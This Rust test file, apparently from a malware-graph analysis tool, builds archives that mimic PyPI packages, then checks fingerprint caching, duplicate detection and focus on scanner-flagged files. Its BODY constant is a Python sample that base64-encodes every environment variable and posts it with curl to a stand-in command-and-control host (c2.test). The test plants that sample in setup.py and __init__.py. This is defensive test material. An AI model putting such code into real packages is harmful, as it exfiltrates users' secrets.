//! The store round trip: load_input (fingerprints computed once, then cached), save, load.

use flate2::Compression;
use flate2::write::GzEncoder;
use malgraph_core::{Ecosystem, PackageId};
use malgraph_graph::*;
use malgraph_intel::{Batch, Sample, SourceKind};
use malgraph_store::Store;
use sha2::{Digest, Sha256};

fn targz(files: &[(&str, &str)]) -> Vec<u8> {
    let mut b = tar::Builder::new(GzEncoder::new(Vec::new(), Compression::default()));
    for (path, body) in files {
        let mut h = tar::Header::new_gnu();
        h.set_size(body.len() as u64);
        h.set_mode(0o644);
        h.set_cksum();
        b.append_data(&mut h, path, body.as_bytes()).unwrap();
    }
    b.into_inner().unwrap().finish().unwrap()
}

const BODY: &str = "import os, base64\nfor k, v in os.environ.items():\n    data = base64.b64encode((k + '=' + v).encode())\n    os.system('curl -d ' + data.decode() + ' http://c2.test/x')\nprint('installed', len(data), 42)\n";

#[test]
fn load_input_fingerprints_once_and_snapshots_round_trip() {
    let dir = tempfile::tempdir().unwrap();
    let mut samples = Vec::new();
    for (name, ident) in [("aaa", "data"), ("bbb", "payload"), ("broken", "")] {
        let bytes = if name == "broken" {
            b"not an archive".to_vec()
        } else {
            targz(&[(
                &format!("{name}-1.0/{name}/__init__.py"),
                &BODY.replace("data", ident),
            )])
        };
        let path = dir.path().join(format!("{name}-1.0.tar.gz"));
        std::fs::write(&path, &bytes).unwrap();
        samples.push(Sample {
            package: PackageId::new(Ecosystem::PyPI, name, Some("1.0")),
            sha256: hex::encode(Sha256::digest(&bytes)),
            size: bytes.len() as u64,
            location: path.to_string_lossy().into_owned(),
            date: Some("2023-04-01".into()),
            label: None,
        });
    }
    let batch = Batch {
        source: "test-samples".into(),
        kind: SourceKind::ArchiveFolder,
        location: dir.path().to_string_lossy().into_owned(),
        advisories: vec![],
        samples,
        names: vec![],
        reports: vec![],
        errors: vec![],
    };
    let db = dir.path().join("g.db");
    let mut store = Store::open(db.to_str().unwrap()).unwrap();
    store.ingest(&batch).unwrap();

    let (input, st) = load_input(&mut store).unwrap();
    assert_eq!((st.samples, st.computed, st.cached), (3, 2, 0));
    assert_eq!(st.errors.len(), 1);
    let g = build(&input, &BuildOptions::default());
    // renamed copies: identical normalised code
    assert!(g.edges.iter().any(|e| e.kind == EdgeKind::Duplicated
        && e.source == "ver:pypi/aaa@1.0"
        && e.target == "ver:pypi/bbb@1.0"
        && e.why.contains("normalised")));

    let (input2, st2) = load_input(&mut store).unwrap();
    assert_eq!((st2.computed, st2.cached), (0, 2));
    let g2 = build(&input2, &BuildOptions::default());
    assert_eq!(to_node_link_json(&g), to_node_link_json(&g2));

    assert!(load(&store).unwrap().is_none());
    save(&mut store, &g).unwrap();
    let back = load(&store).unwrap().unwrap();
    assert_eq!(to_node_link_json(&back), to_node_link_json(&g));
}

const LIBRARY: &str = "import json\n\nclass Client:\n    def __init__(self, base, timeout=10):\n        self.base = base\n        self.timeout = timeout\n        self.headers = {'Accept': 'application/json'}\n\n    def get(self, path, **params):\n        url = self.base.rstrip('/') + '/' + path.lstrip('/')\n        return json.loads(self._send('GET', url, params))\n\n    def _send(self, method, url, params):\n        raise NotImplementedError(method, url, sorted(params))\n";

fn finding(file: &str, severity: malgraph_core::Severity) -> malgraph_core::Finding {
    malgraph_core::Finding {
        rule: "T".into(),
        category: malgraph_core::Category::CommandExecution,
        severity,
        stage: None,
        evasion: None,
        file: file.into(),
        line: 1,
        snippet: String::new(),
        layer: 0,
        message: String::new(),
    }
}

#[test]
fn load_input_focuses_on_flagged_files_and_caches_it() {
    let dir = tempfile::tempdir().unwrap();
    let mut samples = Vec::new();
    for name in ["aaa", "bbb"] {
        let bytes = targz(&[
            (&format!("{name}-1.0/{name}/client.py"), LIBRARY),
            (&format!("{name}-1.0/setup.py"), BODY),
        ]);
        let path = dir.path().join(format!("{name}-1.0.tar.gz"));
        std::fs::write(&path, &bytes).unwrap();
        samples.push(Sample {
            package: PackageId::new(Ecosystem::PyPI, name, Some("1.0")),
            sha256: hex::encode(Sha256::digest(&bytes)),
            size: bytes.len() as u64,
            location: path.to_string_lossy().into_owned(),
            date: None,
            label: None,
        });
    }
    let flagged_sha = samples[0].sha256.clone();
    let batch = Batch {
        source: "test-samples".into(),
        kind: SourceKind::ArchiveFolder,
        location: dir.path().to_string_lossy().into_owned(),
        advisories: vec![],
        samples,
        names: vec![],
        reports: vec![],
        errors: vec![],
    };
    let mut store = Store::open(dir.path().join("g.db").to_str().unwrap()).unwrap();
    store.ingest(&batch).unwrap();
    let mut scan = malgraph_core::ScanReport::error("aaa", Some(flagged_sha.clone()), "x");
    scan.error = None;
    scan.findings = vec![
        finding("aaa-1.0/setup.py", malgraph_core::Severity::High),
        finding("aaa-1.0/aaa/client.py", malgraph_core::Severity::Low),
    ];
    store.add_scan(&flagged_sha, &scan).unwrap();

    let (input, st) = load_input(&mut store).unwrap();
    assert_eq!((st.computed, st.cached), (2, 0));
    let by = |n: &str| input.samples.iter().find(|s| s.package.name == n).unwrap();
    let (a, b) = (by("aaa"), by("bbb"));
    let whole = a.fingerprint.as_ref().unwrap();
    let part = a
        .focused
        .as_ref()
        .expect("flagged setup.py gives a focused fingerprint");
    assert!(part.shingles.len() >= 20 && part.shingles.len() < whole.shingles.len());
    assert!(part.shingles.iter().all(|h| whole.shingles.contains(h)));
    assert_eq!(part.normalized_sha256, whole.normalized_sha256);
    assert!(b.focused.is_none(), "no scan, no focus");

    let (input2, st2) = load_input(&mut store).unwrap();
    assert_eq!((st2.computed, st2.cached), (0, 2));
    assert_eq!(input2.samples, input.samples);
}
